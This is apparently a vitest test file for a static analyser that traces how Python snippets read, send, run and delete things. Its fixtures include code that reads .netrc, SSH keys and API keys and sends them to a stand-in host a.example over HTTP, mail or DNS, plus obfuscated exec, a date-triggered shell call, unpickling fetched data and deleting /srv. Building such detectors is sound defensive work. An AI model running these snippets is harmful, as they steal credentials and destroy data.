import { describe, expect, it } from 'vitest';
import { flowsOf } from './flows.js';

/** Every script starts with a secret in `k`; that it is read is the first flow of each. */
const LEAD = 'k = open("/root/.netrc").read()\n';

/** Where the libraries of Python send a secret. */
const transfers: readonly (readonly [code: string, ...flows: string[]])[] = [
  ['import requests\nrequests.post("https://a.example", json={"k": k})', 'send http https://a.example < secret /root/.netrc'],
  ['import requests\nrequests.get("https://a.example", params={"k": k})', 'send http https://a.example < secret /root/.netrc'],
  ['import requests\nrequests.get("https://a.example", headers={"X": k})', 'send http https://a.example header < secret /root/.netrc'],
  [
    'import urllib.request\nr = urllib.request.Request("https://a.example", data=k.encode())\nurllib.request.urlopen(r)',
    'send http https://a.example < secret /root/.netrc',
  ],
  [
    'import http.client\nc = http.client.HTTPSConnection("a.example")\nc.request("POST", "/", k)',
    'send http a.example < secret /root/.netrc',
  ],
  ['import requests\nrequests.get("https://a.example/%s" % k)', 'send http https://a.example/%s? < secret /root/.netrc'],
  ['import smtplib\nm = smtplib.SMTP("mx.a.example")\nm.sendmail("a", "b", k)', 'send mail mx.a.example < secret /root/.netrc'],
  ['import socket\nsocket.gethostbyname(k + ".a.example")', 'send dns ?.a.example < secret /root/.netrc'],
];

/** A secret is followed through expressions, containers, functions and blocks. */
const passages: readonly (readonly [code: string, ...flows: string[]])[] = [
  ['print(k)', 'print < secret /root/.netrc'],
  ['print(k[::-1])', 'print < secret /root/.netrc'],
  ['a, b = k, 1\nprint(a)', 'print < secret /root/.netrc'],
  ['d = {"a": k}\nprint(d["a"])', 'print < secret /root/.netrc'],
  ['print({"a": k}.get("a"))', 'print < secret /root/.netrc'],
  ['x = ""\nx += k\nprint(x)', 'print < secret /root/.netrc'],
  ['print([c for c in k])', 'print < secret /root/.netrc'],
  ['print("%s" % k)', 'print < secret /root/.netrc'],
  ['print("{}".format(k))', 'print < secret /root/.netrc'],
  ['print("{a}".format(a=k))', 'print < secret /root/.netrc'],
  ['print(f"{k}!")', 'print < secret /root/.netrc'],
  ['print((lambda x: x)(k))', 'print < secret /root/.netrc'],
  ['def f(x):\n    return x\nprint(f(k))', 'print < secret /root/.netrc'],
  ['for c in [k]:\n    print(c)', 'print < secret /root/.netrc'],
  ['import hashlib\nprint(hashlib.sha256(k.encode()).hexdigest())'],
  ['print(len(k))'],
  ['x = 1\nprint(x)'],
];

/** What counts as a secret, however it is read. */
const reads: readonly (readonly [code: string, ...flows: string[]])[] = [
  ['with open("/root/.npmrc") as f:\n    print(f.read())', 'read /root/.npmrc < secret /root/.npmrc', 'print < secret /root/.npmrc'],
  [
    'try:\n    print(open("/root/.npmrc").read())\nexcept OSError:\n    pass',
    'read /root/.npmrc < secret /root/.npmrc',
    'print < secret /root/.npmrc',
  ],
  [
    'async def main():\n    async with open("/root/.npmrc") as f:\n        print(f.read())\nmain()',
    'read /root/.npmrc < secret /root/.npmrc',
    'print < secret /root/.npmrc',
  ],
  [
    'from pathlib import Path\nprint((Path.home() / ".ssh" / "id_rsa").read_text())',
    'read ~/.ssh/id_rsa < secret ~/.ssh/id_rsa',
    'print < secret ~/.ssh/id_rsa',
  ],
  ['import os\nprint(os.environ["API_KEY"])', 'print < credential API_KEY'],
  ['import os\nprint(os.environ.get("API_KEY", ""))', 'print < credential API_KEY'],
  ['import os\nprint(dict(os.environ))', 'print < environment os.environ'],
  ['import os\nprint(os.getenv("HOME"))'],
  [
    'import shutil\nshutil.copy("/root/.npmrc", "/tmp/n")\nprint(open("/tmp/n").read())',
    'read /root/.npmrc < secret /root/.npmrc',
    'print < secret /root/.npmrc',
  ],
  [
    'import glob\nfor p in glob.glob("/root/.ssh/*"):\n    print(open(p).read())',
    'read /root/.ssh/* < secret /root/.ssh/*',
    'print < secret /root/.ssh/*',
  ],
  [
    'import keyring\nprint(keyring.get_password("a", "b"))',
    'read keyring.get_password < keychain keyring.get_password a',
    'print < keychain keyring.get_password a',
  ],
  ['import pyperclip\nprint(pyperclip.paste())', 'read pyperclip.paste < clipboard pyperclip.paste', 'print < clipboard pyperclip.paste'],
  [
    'import requests\nprint(requests.get("http://169.254.169.254/latest").text)',
    'send http http://169.254.169.254/latest',
    'read http://169.254.169.254/latest < metadata http://169.254.169.254/latest',
    'print < metadata http://169.254.169.254/latest',
  ],
];

/** What is run, and where it comes from. */
const runs: readonly (readonly [code: string, ...flows: string[]])[] = [
  ['exec(__import__("base64").b64decode("cHJpbnQoMSk="))', 'run eval print(1) < decoded base64.b64decode (assembled)'],
  ['getattr(__import__("os"), "sys" + "tem")("ls > x")', 'run shell ls > x', 'write x: ?'],
  ['import importlib\nimportlib.import_module("o" + "s").system("ls > x")', 'run shell ls > x', 'write x: ?'],
  ['eval("".join(map(chr, [112, 114, 105, 110, 116])))', 'run eval print (assembled)'],
  [
    'import pickle, urllib.request as u\npickle.loads(u.urlopen("https://a.example").read())',
    'send http https://a.example',
    'run eval ? < fetched https://a.example',
  ],
  ['import sys, subprocess\nsubprocess.run(sys.argv[1], shell=True)', 'run shell ? < argument argument'],
  ['import os\nos.execvp("sh", ["sh", "-c", "ls > x"])', "run shell sh sh -c 'ls > x'", 'run shell ls > x'],
  [
    'import datetime\nif datetime.date.today().year > 2030:\n    import os\n    os.system("ls > x")',
    'guard date',
    'guarded run shell ls > x',
    'write x: ?',
  ],
];

/** What is written and removed. */
const writes: readonly (readonly [code: string, ...flows: string[]])[] = [
  ['import os\nos.remove("a")', 'delete a'],
  ['import shutil\nshutil.rmtree("/srv")', 'delete /srv'],
  ['from pathlib import Path\nPath("/srv/x").unlink()', 'delete /srv/x'],
  ['open("/root/.bashrc", "a").write("x")', 'write /root/.bashrc: x'],
  ['with open("/root/.bashrc", "w") as f:\n    f.write("x")', 'write /root/.bashrc: x'],
  ['from pathlib import Path\nPath("a").write_text("x")', 'write a: x'],
];

describe('what a Python script does', () => {
  it.each(transfers)('transfers: %s', (code, ...flows) => {
    expect(flowsOf(LEAD + code, 'python').slice(1)).toEqual(flows);
  });

  it.each(passages)('passages: %s', (code, ...flows) => {
    expect(flowsOf(LEAD + code, 'python').slice(1)).toEqual(flows);
  });

  it.each(reads)('reads: %s', (code, ...flows) => {
    expect(flowsOf(LEAD + code, 'python').slice(1)).toEqual(flows);
  });

  it.each(runs)('runs: %s', (code, ...flows) => {
    expect(flowsOf(LEAD + code, 'python').slice(1)).toEqual(flows);
  });

  it.each(writes)('writes: %s', (code, ...flows) => {
    expect(flowsOf(LEAD + code, 'python').slice(1)).toEqual(flows);
  });
});
